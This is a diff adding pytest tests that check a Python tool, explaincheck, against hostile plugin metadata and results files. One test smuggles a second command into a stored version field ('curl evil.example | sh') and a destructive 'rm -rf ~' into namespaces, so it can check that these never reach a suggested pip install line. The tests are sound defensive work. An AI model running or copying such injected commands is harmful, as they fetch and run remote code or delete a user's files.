@@ -151,7 +151,7 @@ def test_a_plugin_id_that_collides_is_one_line_naming_package_entry_point_and_id
         f" left out: environment id '{lab}/ferry' is already registered by entry point 'ferry'",
         f"explaincheck: warning: plugin 'unnamable' (explaincheck.categories, {lab} 1.0) left"
         " out: category name 'two words' cannot be an id (a letter or digit, then letters,"
-        f" digits, '_', '.' or '-'; it is registered as {lab}/NAME)",
+        f" digits, '_', '.' or '-', at most 100; it is registered as {lab}/NAME)",
         f"explaincheck: warning: plugin 'within_k' (explaincheck.categories, {lab} 1.0) left"
         f" out: category id '{lab}/within_k' is already registered by entry point 'again'",
         f"explaincheck: warning: plugin 'second' (explaincheck.backends, {lab} 1.0) left out:"
@@ -206,6 +206,40 @@ def test_a_results_file_read_where_its_plugin_is_missing_names_the_package_and_v
     )
     share = run_explaincheck("share", "--db", str(db), "--out", str(tmp_path / "s.html"))
     assert share.returncode == 0 and GONE in share.stderr
+
+
+def test_a_stored_plugin_record_is_someone_elses_text_and_never_a_command_to_copy(tmp_path):
+    """The package and version a results file records end up in a ``pip install`` line the
+    user may paste: a version that is not one, or a namespace that is not a package name, is
+    not repeated (the file may come from anyone)."""
+    _, db = make_results(tmp_path)
+    with sqlite3.connect(db) as connection:
+        (settings,) = connection.execute("SELECT settings FROM campaigns").fetchone()
+        record = json.loads(settings)
+        record["plugins"][0]["version"] = "2.0' && curl evil.example | sh #"
+        connection.execute("UPDATE campaigns SET settings = ?", (json.dumps(record),))
+    regrade = run_explaincheck("regrade", "--db", str(db), "--satisfy-rule", "half")
+    assert (regrade.returncode, regrade.stderr) == (
+        2,
+        "explaincheck regrade: environment 'explaincheck-gonelab/ferry' comes from the plugin"
+        " package explaincheck-gonelab, which is not installed here:"
+        " pip install 'explaincheck-gonelab'\n",
+    )
+    with sqlite3.connect(db) as connection:  # every id in a namespace that is no package name
+        for table, column in (
+            ("executions", "category"),
+            ("executions", "llm"),
+            ("executions", "environment"),
+            ("campaigns", "environment"),
+            ("campaigns", "settings"),
+        ):
+            connection.execute(
+                f"UPDATE {table} SET {column} = replace({column}, 'explaincheck-gonelab/',"
+                " 'rm -rf ~;x/')"
+            )
+    regrade = run_explaincheck("regrade", "--db", str(db), "--satisfy-rule", "half")
+    assert regrade.returncode == 2 and "pip install" not in regrade.stderr
+    assert len(regrade.stderr.splitlines()) == 1 and "Traceback" not in regrade.stderr
 
 
 def test_results_stored_before_ids_were_namespaced_stay_readable(tmp_path):
@@ -295,3 +329,99 @@ def test_a_plugin_environments_describe_py_does_not_run_and_loading_says_so(tmp_
 
 def test_the_entry_points_the_tests_install_are_the_packages_own():
     assert package_project()["entry-points"] == ENTRY_POINTS
+
+
+# ---- an installed distribution's metadata is someone else's text (issue 52): a malformed or huge
+# entry is one line on stderr and left out, never a traceback, a flood or a terminal escape
+
+
+def hostile_dist(site: Path, folder: str, metadata: str, entry_points: str | bytes) -> None:
+    info = site / folder
+    info.mkdir(parents=True)
+    info.joinpath("METADATA").write_text(metadata, encoding="utf-8")
+    data = entry_points if isinstance(entry_points, bytes) else entry_points.encode()
+    info.joinpath("entry_points.txt").write_bytes(data)
+
+
+def test_malformed_or_huge_plugin_metadata_is_one_line_each_never_a_traceback(tmp_path):
+    site = tmp_path / "site"
+    site.mkdir()
+    ok = "explaincheck_ferrylab.backend:KIND"
+    meta = "Metadata-Version: 2.1\nName: {}\nVersion: {}\n"
+    # a line without "=" in a plugin group: importlib's entry_points() raises on it, everywhere
+    hostile_dist(
+        site,
+        "a_noequals-1.0.dist-info",
+        meta.format("a-noequals", "1.0"),
+        "[explaincheck.backends]\nno equals sign here\n",
+    )
+    # the same in a group of someone else: not ours to say
+    hostile_dist(
+        site,
+        "b_other-1.0.dist-info",
+        meta.format("b-other", "1.0"),
+        "[console_scripts]\nbroken line\n",
+    )
+    # a name with a terminal escape, a 5,000-character version
+    hostile_dist(
+        site,
+        "c_escape-1.0.dist-info",
+        meta.format("c\x1b[31mred", "1.0"),
+        f"[explaincheck.backends]\nx = {ok}\n",
+    )
+    hostile_dist(
+        site,
+        "d_longversion-1.0.dist-info",
+        meta.format("d-longversion", "9" * 5000),
+        f"[explaincheck.backends]\nx = {ok}\n",
+    )
+    # a 2 MB entry_points.txt, one that is not UTF-8
+    hostile_dist(
+        site,
+        "e_huge-1.0.dist-info",
+        meta.format("e-huge", "1.0"),
+        "[explaincheck.backends]\n" + f"x = {ok}\n" * 60_000,
+    )
+    hostile_dist(
+        site,
+        "f_latin-1.0.dist-info",
+        meta.format("f-latin", "1.0"),
+        b"[explaincheck.backends]\nx\xe9 = " + ok.encode() + b"\n",
+    )
+    # one good entry point beside a 5,000-character name, a target that is no target and a
+    # plugin whose import fails with a 100,000-character message over many lines
+    (site / "noisy_plugin.py").write_text("raise ImportError('line\\n' * 12_500)\n")
+    hostile_dist(
+        site,
+        "g_mixed-1.0.dist-info",
+        meta.format("g-mixed", "1.0"),
+        "[explaincheck.backends]\n"
+        f"good = {ok}\n{'n' * 5000} = {ok}\nbad = not a target!\nnoisy = noisy_plugin:KIND\n",
+    )
+    done = run_python(REGISTRIES, sites=(site,))
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert "Traceback" not in done.stderr and "\x1b" not in done.stderr
+    kinds = json.loads(done.stdout)[1]
+    assert "random" in kinds and "g-mixed/first" in kinds  # the rest still works
+    assert not [k for k in kinds if k.split("/")[0] in {"a-noequals", "c", "e-huge", "f-latin"}]
+    lines = done.stderr.splitlines()
+    huge = (site / "e_huge-1.0.dist-info" / "entry_points.txt").stat().st_size
+    assert all(len(line) < 700 for line in lines)  # no flood
+    said = {
+        "a_noequals-1.0.dist-info: entry_points.txt is malformed (Python's reader: ",
+        "c_escape-1.0.dist-info: its METADATA Name 'c\\x1b[31mred' is not a package name",
+        "d_longversion-1.0.dist-info: package d-longversion: its METADATA Version '9999",
+        f"e_huge-1.0.dist-info: entry_points.txt has {huge} bytes (more than 1048576)",
+        "f_latin-1.0.dist-info: entry_points.txt is not UTF-8 text (byte 25)",
+        "plugin 'nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn…' (explaincheck.backends, g-mixed 1.0)"
+        " left out: entry point name 'nnnn",
+        "plugin 'bad' (explaincheck.backends, g-mixed 1.0) left out: entry point 'bad' ="
+        " 'not a target!' is not 'module.path:attribute'",
+        "plugin 'noisy' (explaincheck.backends, g-mixed 1.0) left out: line line line",
+    }
+    for part in said:
+        assert sum(part in line for line in lines) == 1, (part, lines)
+    assert len(lines) == len(said), lines  # b-other's file is not this project's to judge
+    listed = run_explaincheck("plugins", sites=(site,))
+    assert listed.returncode == 0 and "Traceback" not in listed.stderr
+    assert "g-mixed 1.0" in listed.stdout and "c\x1b" not in listed.stdout
